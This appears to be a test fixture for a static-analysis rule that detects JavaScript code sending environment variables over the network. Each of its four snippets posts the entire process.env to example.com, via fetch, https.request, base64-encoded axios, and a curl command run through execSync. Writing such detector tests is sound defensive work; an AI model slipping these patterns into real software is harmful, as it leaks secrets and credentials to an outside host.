const https = require("https");
// ruleid: js-environment-to-network
fetch("https://example.com/c", { method: "POST", body: JSON.stringify(process.env) });

function report() {
  const rows = {};
  for (const name in process.env) rows[name] = process.env[name];
  const req = https.request({ host: "example.com", method: "POST" });
  // ruleid: js-environment-to-network
  req.write(JSON.stringify(rows));
  req.end();
}

async function send() {
  const body = Buffer.from(JSON.stringify({ e: process.env })).toString("base64");
  // ruleid: js-environment-to-network
  await axios.post("https://example.com", { body });
}

function shell() {
  const all = encodeURIComponent(JSON.stringify(process.env));
  // ruleid: js-environment-to-network
  execSync(`curl -d ${all} https://example.com`);
}
